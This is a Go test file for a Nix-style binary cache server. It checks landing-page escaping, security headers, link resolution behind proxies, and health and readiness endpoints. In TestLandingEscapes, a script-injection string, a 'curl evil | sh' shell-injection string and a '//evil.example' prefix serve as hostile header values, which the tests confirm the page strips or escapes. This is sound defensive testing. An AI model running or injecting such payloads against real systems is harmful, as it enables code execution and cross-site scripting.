package cache

import (
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"narwharf/signing"
)

func TestLanding(t *testing.T) {
	key := newKey(t, "cache.example.org-1")
	w := newWorld(t, func(s *setup) {
		s.keys = (&keyring{keys: []signing.SecretKey{key}}).load
		s.Version = "1.0<b>"
	})
	w.putAll(newUpload(t, "p", "none"))
	a := w.must(w.get("/"), 200)
	for _, want := range []string{"1 store paths", strings.ReplaceAll(key.Public().String(), "+", "&#43;"), w.http.URL + "?compression=zstd", "1.0&lt;b&gt;"} {
		if !strings.Contains(a.body, want) {
			t.Errorf("no %q in\n%s", want, a.body)
		}
	}
	if csp := a.header.Get("Content-Security-Policy"); !strings.Contains(csp, "default-src 'none'") || a.header.Get("Cache-Control") != "no-store" {
		t.Errorf("headers %v", a.header)
	}
	if strings.Contains(a.body, key.String()) {
		t.Error("the page shows the secret key")
	}
}

// TestLandingLinks: the links of the page lead to something, however it was asked for.
func TestLandingLinks(t *testing.T) {
	for name, c := range map[string]struct {
		public string
		paths  []string
		strip  string // by a proxy in front
		header []string
	}{
		"nothing is known":         {paths: []string{"/"}},
		"a name":                   {public: "https://cache.example.org", paths: []string{"/", ""}},
		"a path, passed on":        {public: "https://example.org/a/b", paths: []string{"/a/b", "/a/b/", "/"}},
		"a path, taken off":        {public: "https://example.org/a/b", paths: []string{"/a/b", "/a/b/"}, strip: "/a/b"},
		"a path that a proxy says": {paths: []string{"/a/b", "/a/b/"}, strip: "/a/b", header: []string{"X-Forwarded-Prefix", "/a/b/"}},
	} {
		t.Run(name, func(t *testing.T) {
			w := newWorld(t, func(s *setup) {
				if c.public != "" {
					s.PublicURL, _ = url.Parse(c.public)
				}
			})
			ask := func(path string) answer {
				t.Helper()
				rest, ok := strings.CutPrefix(path, c.strip)
				if !ok {
					t.Fatalf("%s is not below %s", path, c.strip)
				}
				return w.must(w.get(rest, c.header...), 200)
			}
			for _, path := range c.paths {
				links := regexp.MustCompile(`href="([^"]*)"`).FindAllStringSubmatch(ask(path).body, -1)
				if len(links) < 2 {
					t.Fatalf("%d links", len(links))
				}
				for _, link := range links {
					u, err := (&url.URL{Scheme: "http", Host: "x", Path: path}).Parse(link[1])
					if err != nil {
						t.Fatal(err)
					}
					ask(u.Path)
				}
			}
		})
	}
}

func TestLandingWithoutKeys(t *testing.T) {
	w := newWorld(t)
	if a := w.must(w.get("/"), 200); !strings.Contains(a.body, "no signing key") {
		t.Error(a.body)
	}
}

// What the request says of its own address is escaped, and what cannot be part
// of one is left out: people paste these lines.
func TestLandingEscapes(t *testing.T) {
	w := newWorld(t)
	page := func(host string, header ...string) string {
		t.Helper()
		req, err := http.NewRequest(http.MethodGet, w.http.URL+"/", http.NoBody)
		if err != nil {
			t.Fatal(err)
		}
		req.Host = host
		for i := 0; i < len(header); i += 2 {
			req.Header.Set(header[i], header[i+1])
		}
		return w.must(w.send(req), 200).body
	}
	if got := page("cache.lan", "X-Forwarded-Proto", "https", "X-Forwarded-Prefix", "/nix/cache/"); !strings.Contains(got, "https://cache.lan/nix/cache?compression") {
		t.Error(got)
	}
	for _, prefix := range []string{"/<script>alert(1)</script>", "/'; curl evil | sh; '", "/a b", "//evil.example", "x", "/..\n"} {
		got := page("cache.lan", "X-Forwarded-Prefix", strings.TrimSpace(prefix))
		if prefix = strings.TrimSpace(prefix); prefix != "/.." && (strings.Contains(got, "cache.lan/") || strings.Contains(got, "<script")) {
			t.Errorf("%q shows up in\n%s", prefix, got)
		}
	}
	if got := page("evil'\"&"); strings.Contains(got, `evil'"&`) {
		t.Error(got)
	}
}

func TestHealth(t *testing.T) {
	w := newWorld(t)
	if a := w.must(w.get("/healthz"), 200); a.body != "ok\n" {
		t.Error(a)
	}
	if a := w.must(w.get("/version"), 200); a.body != "narwharf test\n" {
		t.Error(a)
	}
	if a := w.must(w.get("/pubkey"), 200); a.body != "" {
		t.Error(a)
	}
	if a := w.must(w.get("/readyz"), 200); !strings.HasPrefix(a.body, "ready\nroom for uploads: ") {
		t.Error(a)
	}
	// Files that cannot be reached, as when a disk is not mounted.
	name := filepath.Join(w.dir, "cache", "nix-cache-info")
	if err := os.Rename(name, name+".away"); err != nil {
		t.Fatal(err)
	}
	w.must(w.get("/readyz"), 503, "not ready", "files")
	w.must(w.get("/healthz"), 200)
	if err := os.Rename(name+".away", name); err != nil {
		t.Fatal(err)
	}
	p, q := newUpload(t, "p", "none"), newUpload(t, "q", "none")
	w.must(w.put(p.narURL(), p.body), 201)
	if err := w.state.Close(); err != nil {
		t.Fatal(err)
	}
	w.must(w.get("/readyz"), 503, "index")
	w.must(w.get(examples["narinfo"]), 500) // not 404: that would be remembered for an hour
	w.must(w.head(examples["narinfo"]), 500)
	w.must(w.put(q.narURL(), q.body), 501) // it may be one that is being deleted
	w.must(w.put(p.infoURL(), p.text()), 501)
	w.http.Close()
	w.http = nil
}
